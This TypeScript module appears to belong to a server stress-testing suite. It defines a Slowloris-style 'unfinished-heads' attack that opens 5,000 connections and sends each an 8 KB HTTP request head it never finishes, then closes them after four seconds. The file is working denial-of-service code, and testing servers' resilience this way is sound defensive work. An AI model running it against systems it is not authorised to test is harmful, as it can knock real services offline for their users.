import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, inParallel, open } from './attack.ts';

const CONNECTIONS = 5000;
const HEAD = `GET / HTTP/1.1\r\nHost: a\r\n${'a:b\r\n'.repeat(60)}X: ${'x'.repeat(7500)}`;

export const unfinishedHeads: Attack = {
  name: 'unfinished-heads',
  what: '5,000 connections send 8 KB of a request head each, and never its end',
  async run(target) {
    const sockets = new Set<{ destroy(): void }>();
    await inParallel(CONNECTIONS, 200, async () => {
      const socket = await open(target);
      sockets.add(socket);
      socket.write(HEAD);
    });
    await wait(4000);
    for (const socket of sockets) socket.destroy();
    return { connections: CONNECTIONS, bytes: CONNECTIONS * HEAD.length };
  },
};
